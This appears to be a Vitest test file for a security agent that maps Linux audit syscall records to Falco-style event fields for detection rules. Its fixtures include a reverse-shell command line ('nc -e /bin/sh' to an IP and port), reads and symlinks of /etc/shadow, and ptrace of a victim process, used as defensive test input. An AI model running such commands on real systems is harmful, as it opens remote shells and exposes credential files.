import { describe, expect, it } from 'vitest';
import type { AuditSyscall } from '../../../../collectors/audit/types.js';
import type { ProcessInfo } from '../../../../collectors/model.js';
import { type AuditContext, auditEvent } from '../../../../agent/events/audit-events.js';
import { bindField } from '../../../../rules/fields/index.js';
import type { VigilEvent } from '../../../../rules/event.js';
import { proc } from './fixtures.js';

/** A record group as the source assembles it; defaults from a real `bash -c 'echo hi > a.txt'` openat. */
function sys(over: Partial<AuditSyscall> & { syscall: string }): AuditSyscall {
  return {
    serial: 40212,
    timeMs: 1_796_489_232_156,
    syscallNr: 0,
    success: true,
    exit: 0,
    args: ['ffffff9c', '562c0ee3e800', '241', '1b6'],
    pid: 500,
    ppid: 400,
    uid: 0,
    euid: 0,
    gid: 0,
    egid: 0,
    comm: 'bash',
    exe: '/usr/bin/bash',
    cwd: '/tmp/b14x',
    paths: [],
    ...over,
  };
}

function context(processes: ProcessInfo[] = [], extra: Partial<AuditContext> = {}): AuditContext {
  const byPid = new Map(processes.map((p) => [p.pid, p]));
  return {
    hostname: 'node-1',
    procRoot: '/proc',
    now: () => 1,
    process: (pid) => byPid.get(pid),
    container: (id) => ({ id, name: `ctr-${id}`, labels: {}, runtime: 'docker' }) as never,
    containerOfNetns: () => undefined,
    socketByInode: () => undefined,
    socketsInNetns: () => [],
    dirOf: () => undefined,
    socketProto: () => undefined,
    listeningPort: () => undefined,
    ...extra,
  };
}

/** A field as a rule reads it. */
function field(e: VigilEvent, name: string): unknown {
  const m = /^([^[]+)(?:\[(.*)\])?$/.exec(name)!;
  const b = bindField(m[1]!, m[2]);
  if (typeof b === 'string') throw new Error(b);
  return b.get(e);
}

describe('audit syscalls as Falco events', () => {
  it("openat(O_WRONLY|O_CREAT|O_TRUNC) of a new file: Falco's flags, is_open_write, the file as fd", () => {
    const e = auditEvent(
      sys({
        syscall: 'openat',
        exit: 3,
        paths: [
          { item: 0, name: '/tmp/b14x', nametype: 'PARENT', mode: 0o40755 },
          { item: 1, name: 'a.txt', nametype: 'CREATE', inode: 77, mode: 0o100644 },
        ],
      }),
      context([proc({ pid: 500, comm: 'bash', containerId: 'c1' })]),
    )!;
    expect(e.type).toBe('openat');
    expect(e.timeMs).toBe(1_796_489_232_156);
    expect(field(e, 'evt.arg.flags')).toBe('O_TRUNC|O_CREAT|O_WRONLY|O_F_CREATED');
    expect(field(e, 'evt.rawarg.flags')).toBe(2 + 4 + 256 + 16384);
    expect(field(e, 'evt.arg.mode')).toBe('0666'); // as bash asks; the umask applies later
    expect(field(e, 'evt.arg.name')).toBe('/tmp/b14x/a.txt');
    expect(field(e, 'evt.rawarg.name')).toBe('a.txt');
    expect(field(e, 'evt.arg.dirfd')).toBe('-100');
    expect(field(e, 'evt.arg[0]')).toBe('3');
    expect([field(e, 'evt.is_open_write'), field(e, 'evt.is_open_read'), field(e, 'evt.is_open_create'), field(e, 'evt.is_open_exec')]).toEqual([true, false, true, false]);
    expect([field(e, 'fd.name'), field(e, 'fd.directory'), field(e, 'fd.filename'), field(e, 'fd.nameraw'), field(e, 'fd.typechar'), field(e, 'fd.num')]).toEqual([
      '/tmp/b14x/a.txt',
      '/tmp/b14x',
      'a.txt',
      'a.txt',
      'f',
      3,
    ]);
    expect([field(e, 'evt.res'), field(e, 'evt.rawres'), field(e, 'container.id')]).toEqual(['SUCCESS', 3, 'c1']);
    expect(field(e, 'evt.args')).toBe('fd=3 dirfd=-100 name=a.txt(/tmp/b14x/a.txt) flags=16646(O_TRUNC|O_CREAT|O_WRONLY|O_F_CREATED) mode=0666 ino=77');
  });

  it('a read-only open that failed: evt.res is the errno name, is_open_read, no fd number', () => {
    const e = auditEvent(
      sys({ syscall: 'openat', success: false, exit: -13, args: ['ffffff9c', '1', '80000', '0'], paths: [{ item: 0, name: '/etc/shadow', nametype: 'NORMAL', mode: 0o100640 }] }),
      context(),
    )!;
    expect([field(e, 'evt.res'), field(e, 'evt.rawres'), field(e, 'evt.failed')]).toEqual(['EACCES', -13, true]);
    expect([field(e, 'evt.arg.flags'), field(e, 'evt.is_open_read'), field(e, 'evt.is_open_write')]).toEqual(['O_RDONLY|O_CLOEXEC', true, false]);
    expect([field(e, 'fd.name'), field(e, 'fd.directory'), field(e, 'fd.filename'), field(e, 'fd.num')]).toEqual(['/etc/shadow', '/etc', 'shadow', undefined]);
    expect(field(e, 'evt.arg.mode')).toBe('0');
  });

  it('O_RDWR is both read and write; a directory open is a directory, not a temporary file', () => {
    const rw = auditEvent(sys({ syscall: 'open', args: ['1', '2', '0', '0'], exit: 4, paths: [{ item: 0, name: '/var/log/x', nametype: 'NORMAL', mode: 0o100644 }] }), context())!;
    expect([field(rw, 'evt.arg.flags'), field(rw, 'evt.is_open_read'), field(rw, 'evt.is_open_write')]).toEqual(['O_RDWR', true, true]);
    const dir = auditEvent(sys({ syscall: 'openat', args: ['ffffff9c', '1', '90800', '0'], exit: 4, paths: [{ item: 0, name: '/etc', nametype: 'NORMAL', mode: 0o40755 }] }), context())!;
    expect(field(dir, 'evt.arg.flags')).toBe('O_DIRECTORY|O_NONBLOCK|O_RDONLY|O_CLOEXEC');
    expect([field(dir, 'fd.type'), field(dir, 'fd.typechar'), field(dir, 'fd.directory'), field(dir, 'fd.filename'), field(dir, 'evt.is_open_create')]).toEqual([
      'directory',
      'd',
      '/etc',
      undefined,
      false,
    ]);
  });

  it('creat with an executable mode: is_open_exec, as Falco computes it for creat', () => {
    const e = auditEvent(sys({ syscall: 'creat', args: ['1', '1ed', '0', '0'], exit: 3, paths: [{ item: 1, name: '/usr/bin/evil', nametype: 'CREATE' }] }), context())!;
    expect([field(e, 'evt.is_open_exec'), field(e, 'evt.is_open_write'), field(e, 'evt.arg.mode'), field(e, 'fd.directory')]).toEqual([true, false, '0755', '/usr/bin']);
  });

  it('a relative path under a real dirfd resolves through the process fd; unknown stays relative', () => {
    const ctx = context([], { dirOf: (pid, fd) => (pid === 500 && fd === 7 ? '/var/lib' : undefined) });
    const e = auditEvent(sys({ syscall: 'openat', args: ['7', '1', '0', '0'], exit: 3, paths: [{ item: 0, name: 'dpkg/status', nametype: 'NORMAL' }] }), ctx)!;
    expect(field(e, 'fd.name')).toBe('/var/lib/dpkg/status');
    const f = auditEvent(sys({ syscall: 'openat', args: ['8', '1', '0', '0'], exit: 3, paths: [{ item: 0, name: 'x/../y', nametype: 'NORMAL' }] }), ctx)!;
    expect([field(f, 'fd.name'), field(f, 'evt.arg.name')]).toEqual(['x/../y', 'x/../y']);
    const g = auditEvent(sys({ syscall: 'open', args: ['1', '0', '0', '0'], exit: 3, paths: [{ item: 0, name: '/etc/../etc/./shadow', nametype: 'NORMAL' }] }), ctx)!;
    expect([field(g, 'fd.name'), field(g, 'fd.nameraw')]).toEqual(['/etc/shadow', '/etc/../etc/./shadow']);
  });

  it('connect refused and connect in progress: evt.res, fd.connected, the peer as server', () => {
    const refused = auditEvent(
      sys({ syscall: 'connect', success: false, exit: -111, args: ['3', '1', '10', '0'], comm: 'wget', sockaddr: { family: 'inet', addr: '10.1.2.3', port: 8080 } }),
      context(),
    )!;
    expect([field(refused, 'evt.res'), field(refused, 'fd.sip'), field(refused, 'fd.sport'), field(refused, 'fd.connected'), field(refused, 'fd.typechar'), field(refused, 'fd.sockfamily')]).toEqual([
      'ECONNREFUSED',
      '10.1.2.3',
      8080,
      false,
      '4',
      'ip',
    ]);
    expect([field(refused, 'evt.arg.addr'), field(refused, 'evt.arg.fd'), field(refused, 'fd.direction'), field(refused, 'fd.name_changed')]).toEqual(['10.1.2.3:8080', '3', 'out', false]);
    const pending = auditEvent(
      sys({ syscall: 'connect', success: false, exit: -115, args: ['6', '1', '10', '0'], comm: 'curl', sockaddr: { family: 'inet6', addr: '2001:db8::1', port: 443 } }),
      context([], { socketProto: (pid, fd) => (pid === 500 && fd === 6 ? 'tcp' : undefined) }),
    )!;
    expect([field(pending, 'evt.res'), field(pending, 'fd.typechar'), field(pending, 'fd.l4proto'), field(pending, 'fd.name'), field(pending, 'fd.name_changed')]).toEqual([
      'EINPROGRESS',
      '6',
      'tcp',
      '->[2001:db8::1]:443',
      true,
    ]);
    const unix = auditEvent(sys({ syscall: 'connect', success: false, exit: -2, args: ['4', '1', '6e', '0'], sockaddr: { family: 'unix', path: '/var/run/nscd/socket' } }), context())!;
    expect([field(unix, 'fd.type'), field(unix, 'fd.name'), field(unix, 'fd.sockfamily'), field(unix, 'evt.res')]).toEqual(['unix', '/var/run/nscd/socket', 'unix', 'ENOENT']);
  });

  it("accept4: the client from SOCKADDR, the server from the process's one listening port", () => {
    const server = proc({ pid: 500, comm: 'nginx', netns: 9 });
    const e = auditEvent(
      sys({ syscall: 'accept4', exit: 12, args: ['5', '1', '1', '80800'], comm: 'nginx', sockaddr: { family: 'inet', addr: '10.0.0.7', port: 51000 } }),
      context([server], { listeningPort: (pid, netns) => (pid === 500 && netns === 9 ? { addr: '0.0.0.0', port: 80 } : undefined) }),
    )!;
    expect(e.fd).toMatchObject({ cip: '10.0.0.7', cport: 51000, sport: 80, direction: 'in', netns: 9, num: 12, connected: true });
    expect([field(e, 'evt.arg.flags'), field(e, 'fd.name')]).toEqual(['80800', '10.0.0.7:51000->0.0.0.0:80']);
  });

  it('rename, link, symlink and unlinkat read their paths by role', () => {
    const ctx = context();
    const mv = auditEvent(
      sys({
        syscall: 'renameat2',
        comm: 'mv',
        args: ['ffffff9c', '1', 'ffffff9c', '2'],
        paths: [
          { item: 0, name: '/tmp/b14x', nametype: 'PARENT' },
          { item: 1, name: '/tmp/b14x', nametype: 'PARENT' },
          { item: 2, name: 'a.txt', nametype: 'DELETE' },
          { item: 3, name: 'b.txt', nametype: 'CREATE' },
        ],
      }),
      ctx,
    )!;
    expect([field(mv, 'evt.arg.oldpath'), field(mv, 'evt.arg.newpath'), field(mv, 'evt.arg.res'), field(mv, 'fd.name')]).toEqual(['/tmp/b14x/a.txt', '/tmp/b14x/b.txt', '0', undefined]);
    const ln = auditEvent(
      sys({
        syscall: 'symlinkat',
        comm: 'ln',
        args: ['1', 'ffffff9c', '2', '0'],
        paths: [
          { item: 0, name: '/tmp/b14x', nametype: 'PARENT' },
          { item: 1, name: '/etc/shadow', nametype: 'UNKNOWN' },
          { item: 2, name: 'd.txt', nametype: 'CREATE' },
        ],
      }),
      ctx,
    )!;
    expect([field(ln, 'evt.arg.target'), field(ln, 'evt.arg.linkpath'), field(ln, 'evt.arg.linkdirfd')]).toEqual(['/etc/shadow', '/tmp/b14x/d.txt', '-100']);
    const hard = auditEvent(
      sys({
        syscall: 'linkat',
        args: ['ffffff9c', '1', 'ffffff9c', '2'],
        paths: [
          { item: 0, name: '/tmp/b14x', nametype: 'PARENT' },
          { item: 1, name: 'b.txt', nametype: 'NORMAL' },
          { item: 2, name: 'c.txt', nametype: 'CREATE' },
        ],
      }),
      ctx,
    )!;
    expect([field(hard, 'evt.arg.oldpath'), field(hard, 'evt.arg.newpath')]).toEqual(['/tmp/b14x/b.txt', '/tmp/b14x/c.txt']);
    const rm = auditEvent(
      sys({
        syscall: 'unlinkat',
        args: ['ffffff9c', '1', '200', '0'],
        paths: [
          { item: 0, name: '/tmp/b14x', nametype: 'PARENT' },
          { item: 1, name: 'sub', nametype: 'DELETE' },
        ],
      }),
      ctx,
    )!;
    expect([field(rm, 'evt.arg.name'), field(rm, 'evt.arg.flags')]).toEqual(['/tmp/b14x/sub', 'AT_REMOVEDIR']);
  });

  it("chmod 4755: Falco's octal mode and S_* names", () => {
    const e = auditEvent(sys({ syscall: 'fchmodat', comm: 'chmod', args: ['ffffff9c', '1', '9ed', '0'], paths: [{ item: 0, name: 'b.txt', nametype: 'NORMAL' }] }), context())!;
    expect([field(e, 'evt.arg.mode'), field(e, 'evt.arg.filename')]).toEqual(['S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID', '/tmp/b14x/b.txt']);
    expect(field(e, 'evt.rawarg.mode')).toBe(0o4755);
  });

  it('setns, unshare, ptrace, socket, mount, memfd_create, bpf, init_module: the names Falco prints', () => {
    const ctx = context([proc({ pid: 42, comm: 'victim' })]);
    const get = (over: Partial<AuditSyscall> & { syscall: string }, name: string): unknown => field(auditEvent(sys(over), ctx)!, name);
    expect(get({ syscall: 'setns', args: ['3', '40000000', '0', '0'] }, 'evt.arg.nstype')).toBe('CLONE_NEWNET');
    expect(get({ syscall: 'setns', args: ['3', '0', '0', '0'] }, 'evt.arg.nstype')).toBe('0');
    expect(get({ syscall: 'unshare', args: ['10020000', '0', '0', '0'] }, 'evt.arg.flags')).toBe('CLONE_NEWNS|CLONE_NEWUSER');
    expect(get({ syscall: 'ptrace', args: ['10', '2a', '0', '0'] }, 'evt.arg.request')).toBe('PTRACE_ATTACH');
    expect(get({ syscall: 'ptrace', args: ['4206', '2a', '0', '0'] }, 'evt.arg.request')).toBe('PTRACE_SEIZE');
    expect(get({ syscall: 'ptrace', args: ['10', '2a', '0', '0'] }, 'evt.arg.pid')).toBe('victim');
    expect(get({ syscall: 'ptrace', args: ['0', '0', '0', '0'] }, 'evt.arg.request')).toBe('PTRACE_TRACEME');
    expect(get({ syscall: 'socket', exit: 3, args: ['11', '3', '300', '0'] }, 'evt.arg.domain')).toBe('AF_PACKET');
    expect(get({ syscall: 'socket', exit: 3, args: ['1', '80801', '0', '0'] }, 'evt.arg.domain')).toBe('AF_LOCAL|AF_UNIX');
    expect(get({ syscall: 'socket', exit: 3, args: ['1', '80801', '0', '0'] }, 'evt.arg.flags')).toBe('O_NONBLOCK|O_CLOEXEC');
    expect(get({ syscall: 'socket', exit: 3, args: ['2', '80801', '0', '0'] }, 'evt.arg.type')).toBe('1');
    const mount = (flags: string, source: string): Partial<AuditSyscall> & { syscall: string } => ({
      syscall: 'mount',
      args: ['1', '2', '3', flags],
      paths: [source, '/mnt'].map((name, item) => ({ item, name, nametype: 'NORMAL' })),
    });
    expect(get(mount('5000', '/host'), 'evt.arg.flags')).toBe('BIND|REC');
    expect(get({ syscall: 'mount', args: ['1', '2', '3', 'c0ed0001'], paths: [{ item: 0, name: '/mnt', nametype: 'NORMAL' }] }, 'evt.arg.flags')).toBe('RDONLY');
    expect(get(mount('0', '/dev/sda1'), 'evt.arg.dir')).toBe('/mnt');
    expect(get({ syscall: 'umount2', args: ['1', '2', '0', '0'], paths: [{ item: 0, name: '/mnt', nametype: 'NORMAL' }] }, 'evt.arg.flags')).toBe('DETACH');
    expect(get({ syscall: 'memfd_create', exit: 4, args: ['1', '3', '0', '0'] }, 'evt.arg.flags')).toBe('MFD_CLOEXEC|MFD_ALLOW_SEALING');
    expect(get({ syscall: 'memfd_create', exit: 4, args: ['1', '3', '0', '0'] }, 'fd.type')).toBe('memfd');
    expect(get({ syscall: 'bpf', exit: 5, args: ['5', '1', '90', '0'] }, 'evt.arg.cmd')).toBe('BPF_PROG_LOAD');
    expect(get({ syscall: 'bpf', exit: 5, args: ['a', '1', '90', '0'] }, 'evt.arg.cmd')).toBe('BPF_PROG_TEST_RUN|BPF_PROG_RUN');
    expect(get({ syscall: 'finit_module', args: ['3', '1', '2', '0'] }, 'evt.arg.flags')).toBe('MODULE_INIT_IGNORE_VERMAGIC');
    expect(get({ syscall: 'init_module', args: ['1', '100', '2', '0'] }, 'evt.arg.length')).toBe('256');
    expect(get({ syscall: 'setuid', args: ['0', '0', '0', '0'] }, 'evt.arg.uid')).toBe('0');
    expect(get({ syscall: 'init_module', success: false, exit: -1, args: ['1', '100', '2', '0'] }, 'evt.res')).toBe('EPERM');
    expect(auditEvent(sys({ syscall: 'read' }), ctx)).toBeUndefined();
    expect(auditEvent(sys({ syscall: 'syscall_999' }), ctx)).toBeUndefined();
  });

  it('a process too short-lived for the table: the record stands in, with its parent as ancestor and container', () => {
    const sh = proc({ pid: 400, comm: 'sh', args: ['sh', '-c', 'wget x'], containerId: 'pod-c', netns: 77, user: 'nobody', uid: 65534 });
    const e = auditEvent(
      sys({
        syscall: 'connect',
        comm: 'wget',
        exe: '/bin/busybox',
        pid: 501,
        ppid: 400,
        euid: 65534,
        egid: 65534,
        exit: 0,
        proctitle: ['wget', '-q', 'http://10.0.0.9/'],
        tty: 'pts1',
        sockaddr: { family: 'inet', addr: '10.0.0.9', port: 80 },
      }),
      context([sh]),
    )!;
    expect([field(e, 'proc.name'), field(e, 'proc.exepath'), field(e, 'proc.cmdline'), field(e, 'proc.pname'), field(e, 'user.name'), field(e, 'user.uid'), field(e, 'container.id')]).toEqual([
      'wget',
      '/bin/busybox',
      'wget -q http://10.0.0.9/',
      'sh',
      'nobody',
      65534,
      'pod-c',
    ]);
    expect(e.fd?.netns).toBe(77);
    expect(field(e, 'proc.tty')).not.toBe(0);
    // A table entry for the same pid running another program does not stand in for it.
    const reused = auditEvent(sys({ syscall: 'connect', comm: 'wget', pid: 400, ppid: 1, exe: '/bin/busybox', sockaddr: { family: 'inet', addr: '10.0.0.9', port: 80 } }), context([sh]))!;
    expect(field(reused, 'proc.name')).toBe('wget');
  });

  it('execve of a gone process: argv from the EXECVE record', () => {
    const e = auditEvent(sys({ syscall: 'execve', comm: 'nc', exe: '/usr/bin/nc.openbsd', argv: ['nc', '-e', '/bin/sh', '1.2.3.4', '4444'] }), context())!;
    expect([field(e, 'evt.type'), field(e, 'proc.cmdline'), field(e, 'evt.arg.exe'), field(e, 'evt.arg.args')]).toEqual(['execve', 'nc -e /bin/sh 1.2.3.4 4444', 'nc', '-e /bin/sh 1.2.3.4 4444']);
  });
});
